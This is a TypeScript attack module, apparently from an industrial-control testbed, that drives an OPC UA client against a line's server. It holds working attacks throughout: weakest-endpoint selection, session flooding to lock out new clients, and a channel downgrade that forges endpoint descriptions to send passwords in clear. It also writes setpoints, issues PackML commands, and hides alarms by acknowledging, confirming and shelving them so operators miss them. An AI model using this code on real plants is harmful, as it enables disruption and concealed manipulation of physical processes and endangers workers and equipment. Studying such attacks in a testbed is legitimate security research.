/**
 * The attacker's OPC UA client (node-opcua), as a tool like it behaves: ask the server for its
 * endpoints over the discovery channel, then take the weakest endpoint that admits the
 * identity at hand (anonymous, or an account the attacker holds) with a self-made application
 * certificate in the run's own folder. Everything it tries and every refusal is noted as
 * evidence in the attacker's words.
 */
import { join } from 'node:path';
import {
  AttributeIds, DataType, EndpointDescription, MessageSecurityMode, NodeClass, OPCUACertificateManager, OPCUAClient, SecurityPolicy, StatusCodes, UserTokenPolicy, UserTokenType, Variant,
  setErrorLogger, setWarningLogger,
  type ClientSession, type NodeId, type UserIdentityInfo,
} from 'node-opcua';
import type { AttackContext, Credentials } from '../types.ts';

// node-opcua prints warnings on stdout; the attacker's own evidence says what matters
if (process.env.TWINLINE_DEBUG === undefined) {
  setWarningLogger(() => undefined);
  setErrorLogger(() => undefined);
}

/** how long a connection or a session may take before the attempt counts as refused [ms] */
const CONNECT_MS = 15_000;

/** An endpoint as the attacker reads it: `SignAndEncrypt Basic256Sha256 [UserName, Certificate]`. */
export function describeEndpoint(e: EndpointDescription): string {
  const policy = (e.securityPolicyUri ?? '').split('#')[1] ?? '?';
  const tokens = (e.userIdentityTokens ?? []).map((t) => UserTokenType[t.tokenType]).join(', ');
  return `${MessageSecurityMode[e.securityMode]} ${policy} [${tokens}]`;
}

/** The same promise, or a rejection after `ms`. */
function within<T>(p: Promise<T>, ms: number, what: string): Promise<T> {
  let timer: NodeJS.Timeout | undefined;
  const late = new Promise<never>((_, reject) => {
    timer = setTimeout(() => reject(new Error(`${what}: no answer in ${ms / 1000} s`)), ms);
  });
  return Promise.race([p, late]).finally(() => clearTimeout(timer));
}

/** A client whose certificate (made on first use) lives in the run's folder. */
function makeClient(ctx: AttackContext, mode: MessageSecurityMode, policyUri: string, serverCertificate?: Buffer): OPCUAClient {
  const clientCertificateManager = new OPCUACertificateManager({ rootFolder: join(ctx.workDir, 'opcua-pki'), automaticallyAcceptUnknownCertificate: true });
  // the manager watches its folders: released when the run is over, or the process would not exit
  ctx.atEnd(() => clientCertificateManager.dispose());
  return OPCUAClient.create({
    applicationName: 'opc-scan', applicationUri: 'urn:opc-scan:client', endpointMustExist: false,
    securityMode: mode, securityPolicy: policyUri as SecurityPolicy,
    connectionStrategy: { maxRetry: 0, initialDelay: 100, maxDelay: 200 }, requestedSessionTimeout: 60_000,
    clientCertificateManager, ...(serverCertificate !== undefined ? { serverCertificate } : {}),
  });
}

/** The first line of an error, without node-opcua's decoration. */
export function reason(e: unknown): string {
  const text = e instanceof Error ? e.message : String(e);
  return text.split('\n').map((l) => l.trim()).find((l) => l !== '') ?? 'refused';
}

/** What the endpoints tell an attacker. */
export function endpointFacts(endpoints: readonly EndpointDescription[]): { modes: string[]; policies: string[]; withoutSecurity: boolean; anonymousOffered: boolean; server: string | null } {
  return {
    modes: [...new Set(endpoints.map((e) => MessageSecurityMode[e.securityMode]))],
    policies: [...new Set(endpoints.map((e) => (e.securityPolicyUri ?? '').split('#')[1] ?? '?'))],
    withoutSecurity: endpoints.some((e) => e.securityMode === MessageSecurityMode.None),
    anonymousOffered: endpoints.some((e) => (e.userIdentityTokens ?? []).some((t) => t.tokenType === UserTokenType.Anonymous)),
    server: endpoints[0]?.server?.applicationName?.text ?? null,
  };
}

/** The server's endpoints, read over the discovery channel (no session). */
export async function getEndpoints(ctx: AttackContext): Promise<EndpointDescription[]> {
  const client = makeClient(ctx, MessageSecurityMode.None, 'http://opcfoundation.org/UA/SecurityPolicy#None');
  try {
    await within(client.connect(ctx.target.href), CONNECT_MS, 'connect');
    return await within(client.getEndpoints(), CONNECT_MS, 'GetEndpoints');
  } finally {
    await client.disconnect().catch(() => undefined);
  }
}

/** An open session on the line's server. */
export interface Foothold {
  session: ClientSession;
  /** the endpoint it came through */
  endpoint: string;
  /** the line's namespace index (`urn:twinline:<scenario>`), or -1 */
  ns: number;
  close(): Promise<void>;
}

const STRENGTH: Readonly<Record<number, number>> = { [MessageSecurityMode.None]: 0, [MessageSecurityMode.Sign]: 1, [MessageSecurityMode.SignAndEncrypt]: 2 };

/**
 * A session through the weakest endpoint that admits the attacker's identity; null when every
 * attempt was refused (each refusal is in `evidence`).
 */
export async function openSession(ctx: AttackContext, evidence: string[]): Promise<Foothold | null> {
  let endpoints: EndpointDescription[];
  try {
    endpoints = await getEndpoints(ctx);
  } catch (e) {
    evidence.push(`OPC UA: ${ctx.target.href} does not answer GetEndpoints: ${reason(e)}`);
    return null;
  }
  const want = ctx.credentials === null ? UserTokenType.Anonymous : UserTokenType.UserName;
  const identity: UserIdentityInfo = ctx.credentials === null
    ? { type: UserTokenType.Anonymous }
    : { type: UserTokenType.UserName, userName: ctx.credentials.user, password: ctx.credentials.password };
  const who = ctx.credentials === null ? 'anonymous' : `user "${ctx.credentials.user}"`;
  const usable = endpoints
    .filter((e) => (e.userIdentityTokens ?? []).some((t) => t.tokenType === want))
    .sort((a, b) => (STRENGTH[a.securityMode] ?? 9) - (STRENGTH[b.securityMode] ?? 9));
  if (usable.length === 0) {
    evidence.push(`OPC UA: no endpoint admits ${who} (offered: ${endpoints.map(describeEndpoint).join('; ')})`);
  }
  // a real tool tries what is offered, weakest first; the None channel is what a tool tries first anyway
  const tries = usable.length > 0 ? usable.slice(0, 2) : endpoints.slice(0, 1);
  for (const e of tries) {
    const label = describeEndpoint(e);
    const client = makeClient(ctx, e.securityMode, e.securityPolicyUri ?? '');
    try {
      await within(client.connect(ctx.target.href), CONNECT_MS, 'connect');
      const session = await within(client.createSession(identity), CONNECT_MS, 'CreateSession');
      evidence.push(`OPC UA: session as ${who} through ${label}`);
      const ns = await lineNamespace(session);
      return {
        session, endpoint: label, ns,
        async close() {
          await session.close().catch(() => undefined);
          await client.disconnect().catch(() => undefined);
        },
      };
    } catch (err) {
      evidence.push(`OPC UA: session as ${who} through ${label} refused: ${reason(err)}`);
      await client.disconnect().catch(() => undefined);
    }
  }
  return null;
}

/** What a session flood achieved. */
export interface Flood {
  /** sessions the server granted the attacker */
  held: number;
  /** why the server stopped granting them (null: it never did, or `max` was reached) */
  stoppedBy: string | null;
  /** what a new client got while they were held: `session` or the refusal */
  newClient: string | null;
}

/**
 * Opens anonymous sessions over one channel until the server refuses one (or `max`), asks
 * for one more from a new client while they are held, then closes them all. Null (the
 * refusal in `evidence`) when not even the first session is granted.
 */
export async function floodSessions(ctx: AttackContext, max: number, holdMs: number, evidence: string[]): Promise<Flood | null> {
  const first = await openSession(ctx, evidence);
  if (first === null) return null;
  await first.close();
  const endpoints = await getEndpoints(ctx);
  const e = endpoints.filter((x) => (x.userIdentityTokens ?? []).some((t) => t.tokenType === UserTokenType.Anonymous))
    .sort((a, b) => (STRENGTH[a.securityMode] ?? 9) - (STRENGTH[b.securityMode] ?? 9))[0];
  if (e === undefined) return null;
  const client = makeClient(ctx, e.securityMode, e.securityPolicyUri ?? '');
  const sessions: ClientSession[] = [];
  let stoppedBy: string | null = null;
  let newClient: string | null = null;
  try {
    await within(client.connect(ctx.target.href), CONNECT_MS, 'connect');
    while (sessions.length < max) {
      try {
        sessions.push(await within(client.createSession(), CONNECT_MS, 'CreateSession'));
      } catch (err) {
        stoppedBy = reason(err);
        break;
      }
    }
    const probe = makeClient(ctx, e.securityMode, e.securityPolicyUri ?? '');
    try {
      await within(probe.connect(ctx.target.href), CONNECT_MS, 'connect');
      await (await within(probe.createSession(), CONNECT_MS, 'CreateSession')).close();
      newClient = 'session';
    } catch (err) {
      newClient = reason(err);
    } finally {
      await probe.disconnect().catch(() => undefined);
    }
    await new Promise((r) => setTimeout(r, holdMs));
  } finally {
    await Promise.all(sessions.map((x) => x.close().catch(() => undefined)));
    await client.disconnect().catch(() => undefined);
  }
  return { held: sessions.length, stoppedBy, newClient };
}

/** The index of the line's namespace (`urn:twinline:…` other than the server's own), or -1. */
async function lineNamespace(session: ClientSession): Promise<number> {
  const dv = await session.read({ nodeId: 'ns=0;i=2255', attributeId: AttributeIds.Value });
  const uris = (dv.value.value ?? []) as string[];
  return uris.findIndex((u) => u.startsWith('urn:twinline:') && u !== 'urn:twinline:server');
}

/** Calls a method on `object` with Int32 arguments (a PackML command, SetMode); the StatusCode name. */
export async function callMethod(f: Foothold, object: string, method: string, args: readonly number[] = []): Promise<string> {
  const inputArguments = args.map((value) => new Variant({ dataType: DataType.Int32, value }));
  const r = await f.session.call({ objectId: object, methodId: method, inputArguments });
  return r.statusCode.name;
}

/** Writes a Double to a variable's Value; the StatusCode name. */
export async function writeDouble(f: Foothold, nodeId: string, value: number): Promise<string> {
  const s = await f.session.write({ nodeId, attributeId: AttributeIds.Value, value: { value: new Variant({ dataType: DataType.Double, value }) } });
  return s.name;
}

/** Reads a variable's Value (a number), or null when the read is refused. */
export async function readNumber(f: Foothold, nodeId: string): Promise<number | null> {
  const dv = await f.session.read({ nodeId, attributeId: AttributeIds.Value });
  return dv.statusCode.equals(StatusCodes.Good) && typeof dv.value.value === 'number' ? dv.value.value : null;
}

/** Of `nodeIds`, the ones whose UserAccessLevel lets this session write the value. */
export async function writableBy(f: Foothold, nodeIds: readonly string[]): Promise<Set<string>> {
  const out = new Set<string>();
  for (let k = 0; k < nodeIds.length; k += 200) {
    const batch = nodeIds.slice(k, k + 200);
    const dvs = await f.session.read(batch.map((nodeId) => ({ nodeId, attributeId: AttributeIds.UserAccessLevel })));
    dvs.forEach((dv, i) => {
      if (typeof dv.value.value === 'number' && (dv.value.value & 2) !== 0) out.add(batch[i]!);
    });
  }
  return out;
}

/** PackML states in which the unit mode may change (PackTags StateCurrent: Stopped, Idle, Aborted, Complete) */
const MODE_CHANGE: ReadonlySet<number> = new Set([2, 4, 9, 17]);

/** Waits (reading `<station>.PackML.State`, as the attacker sees it) until the unit mode may change; false after `ms`. */
export async function untilModeMayChange(f: Foothold, station: string, ms: number): Promise<boolean> {
  const end = Date.now() + ms;
  for (;;) {
    const st = await readNumber(f, nodeOf(f, `${station}.PackML.State`));
    if (st !== null && MODE_CHANGE.has(st)) return true;
    if (Date.now() > end) return false;
    await new Promise((r) => setTimeout(r, 150));
  }
}

/** The node id of a station's child in the line's namespace (`kiln.sp1`, `kiln.PackML.Stop`). */
export function nodeOf(f: Foothold, path: string): string {
  return `ns=${f.ns};s=${path}`;
}

/** A node found by browsing. */
export interface Found {
  nodeId: string;
  name: string;
  nodeClass: 'Object' | 'Variable' | 'Method';
}

/**
 * Walks the address space from Objects through the line's namespace (breadth first, at most
 * `max` nodes): what a tool does to learn the points, tags and commands.
 */
export async function browseLine(f: Foothold, max = 5000): Promise<Found[]> {
  const out: Found[] = [];
  const queue: string[] = ['ns=0;i=85'];
  const seen = new Set<string>(queue);
  while (queue.length > 0 && out.length < max) {
    const batch = queue.splice(0, 50);
    const results = await f.session.browse(batch.map((nodeId) => ({ nodeId, resultMask: 63, nodeClassMask: 0, browseDirection: 0, includeSubtypes: true })));
    for (const r of results) {
      for (const ref of r.references ?? []) {
        if (!ref.isForward) continue;
        const id = ref.nodeId.toString();
        if (ref.nodeId.namespace !== f.ns || seen.has(id)) continue;
        seen.add(id);
        const nodeClass = ref.nodeClass === NodeClass.Variable ? 'Variable' : ref.nodeClass === NodeClass.Method ? 'Method' : ref.nodeClass === NodeClass.Object ? 'Object' : null;
        if (nodeClass === null) continue;
        out.push({ nodeId: id, name: ref.browseName.name ?? '', nodeClass });
        if (nodeClass === 'Object') queue.push(id);
      }
    }
  }
  return out;
}

/** What one downgraded channel gave. */
export interface Downgrade {
  /** `None None`, `Sign Basic256` … */
  channel: string;
  /** the secure channel was opened */
  opened: boolean;
  /** the identity a session was granted to over it, or null */
  session: string | null;
  /** every answer, in the attacker's words */
  notes: string[];
}

/**
 * Opens a channel with `mode` and `policyUri` whether the server offers it or not (as a
 * crafted tool does: node-opcua itself would stop at its own endpoint check, so the client is
 * handed an endpoint description saying the server offers it, with a user name token policy
 * None, i.e. the password in clear), then asks for a session: as the user name of
 * `credentials`, and anonymous when that is refused.
 */
export async function downgradeChannel(ctx: AttackContext, mode: MessageSecurityMode, policyUri: string, server: EndpointDescription, credentials: Credentials): Promise<Downgrade> {
  const channel = `${MessageSecurityMode[mode]} ${policyUri.split('#')[1] ?? '?'}`;
  const notes: string[] = [];
  const forged = new EndpointDescription({
    endpointUrl: ctx.target.href, securityMode: mode, securityPolicyUri: policyUri, serverCertificate: server.serverCertificate, server: server.server,
    userIdentityTokens: [
      new UserTokenPolicy({ policyId: 'username', tokenType: UserTokenType.UserName, securityPolicyUri: SecurityPolicy.None }),
      new UserTokenPolicy({ policyId: 'anonymous', tokenType: UserTokenType.Anonymous }),
    ],
  });
  const client = makeClient(ctx, mode, policyUri, server.serverCertificate);
  // node-opcua looks the endpoint up among the server's before CreateSession: it finds the forged one
  const c = client as unknown as { findEndpoint: unknown; findEndpointForSecurity: unknown };
  c.findEndpoint = c.findEndpointForSecurity = () => forged;
  let opened = false;
  let session: string | null = null;
  try {
    await within(client.connect(ctx.target.href), CONNECT_MS, 'connect');
    opened = true;
    notes.push(`OPC UA: secure channel ${channel} opened`);
    const tries: [string, UserIdentityInfo][] = [
      [`user "${credentials.user}" (password in clear)`, { type: UserTokenType.UserName, userName: credentials.user, password: credentials.password }],
      ['anonymous', { type: UserTokenType.Anonymous }],
    ];
    for (const [who, identity] of tries) {
      try {
        const s = await within(client.createSession(identity), CONNECT_MS, 'CreateSession');
        session = who;
        notes.push(`OPC UA: session as ${who} over ${channel}`);
        await s.close().catch(() => undefined);
        break;
      } catch (e) {
        notes.push(`OPC UA: session as ${who} over ${channel} refused: ${reason(e)}`);
      }
    }
  } catch (e) {
    // node-opcua's first line is a guess ("may have been rejected"): the status code says what the server answered
    const status = /Bad[A-Za-z]+/.exec(e instanceof Error ? e.message : String(e))?.[0];
    notes.push(`OPC UA: secure channel ${channel} refused: ${status ?? reason(e)}`);
  } finally {
    await client.disconnect().catch(() => undefined);
  }
  return { channel, opened, session, notes };
}

/** A condition as the attacker found it. */
export interface ActiveCondition {
  /** `kiln.Alarms.BREAKDOWN` */
  name: string;
  /** acknowledged already when found */
  acked: boolean;
  /** what acknowledging, confirming and shelving it answered (StatusCode names, or why not; null: not called) */
  ack: string | null;
  confirm: string | null;
  shelve: string | null;
}

/**
 * Alarm suppression over Alarms & Conditions: finds the station's active conditions as any
 * client does (an event subscription on the Server object and ConditionRefresh), then
 * acknowledges and confirms each unacknowledged one and shelves it where the condition offers
 * shelving (a ShelvingState), so operators' alarm lists no longer show it as new. Every
 * acknowledgement or confirmation gives a condition a new EventId (and the twin acknowledges
 * all of a station's alarms at once), so the conditions are refreshed before each call.
 */
export async function suppressConditions(f: Foothold, station: string): Promise<ActiveCondition[]> {
  const { findActiveConditions, makeBrowsePath } = await import('node-opcua');
  const found = new Map<string, ActiveCondition>();
  const comment = 'acknowledged';
  // each round does one call; a station has a handful of conditions, each needing two calls at most
  for (let round = 0; round < 16; round++) {
    const all = await within(findActiveConditions(f.session), CONNECT_MS, 'ConditionRefresh');
    let next: { item: ActiveCondition; call: 'ack' | 'confirm'; id: NodeId; eventId: Buffer } | null = null;
    for (const c of all) {
      const id = c.conditionId.value;
      const name = String(id.value);
      // the refresh lists retained conditions (active, or not yet acknowledged); ActiveState is not among the fields of an AcknowledgeableConditionType
      if (id.namespace !== f.ns || !name.startsWith(`${station}.Alarms.`) || (c.activeState?.id?.value ?? c.retain?.value) !== true) continue;
      const acked = c.ackedState?.id?.value === true;
      let item = found.get(name);
      if (item === undefined) found.set(name, (item = { name, acked, ack: null, confirm: null, shelve: null }));
      if (next !== null) continue;
      if (!acked && item.ack === null) next = { item, call: 'ack', id, eventId: c.eventId.value };
      else if (c.confirmedState?.id?.value === false && item.confirm === null) next = { item, call: 'confirm', id, eventId: c.eventId.value };
    }
    if (next === null) break;
    if (next.call === 'ack') next.item.ack = (await f.session.acknowledgeCondition(next.id, next.eventId, comment)).name;
    else next.item.confirm = (await f.session.confirmCondition(next.id, next.eventId, comment)).name;
  }
  for (const item of found.values()) {
    if (item.acked) continue;
    const shelving = await f.session.translateBrowsePath(makeBrowsePath(`ns=${f.ns};s=${item.name}`, '/ShelvingState'));
    if (!shelving.statusCode.equals(StatusCodes.Good) || (shelving.targets ?? []).length === 0) {
      item.shelve = 'not offered (the condition has no ShelvingState)';
    } else {
      // OneShotShelve (i=2948 on ShelvedStateMachineType): hidden until it next returns to normal
      const r = await f.session.call({ objectId: shelving.targets![0]!.targetId, methodId: 'ns=0;i=2948', inputArguments: [] });
      item.shelve = r.statusCode.name;
    }
  }
  return [...found.values()];
}

/** What the victim HMI saw. */
export interface HmiView {
  /** the channel it used (`None None`, `SignAndEncrypt Basic256Sha256`) */
  channel: string;
  /** values it read of the node, in order */
  values: number[];
  /** why it stopped, or null when every read was answered */
  failure: string | null;
}

/**
 * A victim HMI as a careful one is set up: the strongest endpoint the server offers, anonymous
 * when offered (else the account given), pointed at `url` (the relay); reads `<path>` in the
 * line's namespace `count` times, `everyMs` apart, as a polling faceplate does.
 */
export async function hmiReads(ctx: AttackContext, url: string, path: string, count: number, everyMs: number): Promise<HmiView> {
  let endpoints: EndpointDescription[];
  try {
    endpoints = await getEndpoints(ctx);
  } catch (e) {
    return { channel: '?', values: [], failure: `GetEndpoints: ${reason(e)}` };
  }
  const best = [...endpoints].sort((a, b) => (STRENGTH[b.securityMode] ?? -1) - (STRENGTH[a.securityMode] ?? -1))[0];
  if (best === undefined) return { channel: '?', values: [], failure: 'the server offers no endpoint' };
  const channel = `${MessageSecurityMode[best.securityMode]} ${(best.securityPolicyUri ?? '').split('#')[1] ?? '?'}`;
  const anonymous = (best.userIdentityTokens ?? []).some((t) => t.tokenType === UserTokenType.Anonymous);
  const identity: UserIdentityInfo = anonymous || ctx.credentials === null
    ? { type: UserTokenType.Anonymous }
    : { type: UserTokenType.UserName, userName: ctx.credentials.user, password: ctx.credentials.password };
  const client = makeClient(ctx, best.securityMode, best.securityPolicyUri ?? '');
  const values: number[] = [];
  try {
    await within(client.connect(url), CONNECT_MS, 'connect');
    const session = await within(client.createSession(identity), CONNECT_MS, 'CreateSession');
    try {
      const ns = await lineNamespace(session);
      for (let k = 0; k < count; k++) {
        if (k > 0) await new Promise((r) => setTimeout(r, everyMs));
        const dv = await within(session.read({ nodeId: `ns=${ns};s=${path}`, attributeId: AttributeIds.Value }), CONNECT_MS, 'Read');
        if (typeof dv.value.value === 'number') values.push(dv.value.value);
      }
    } finally {
      await session.close().catch(() => undefined);
    }
    return { channel, values, failure: null };
  } catch (e) {
    return { channel, values, failure: reason(e) };
  } finally {
    await client.disconnect().catch(() => undefined);
  }
}
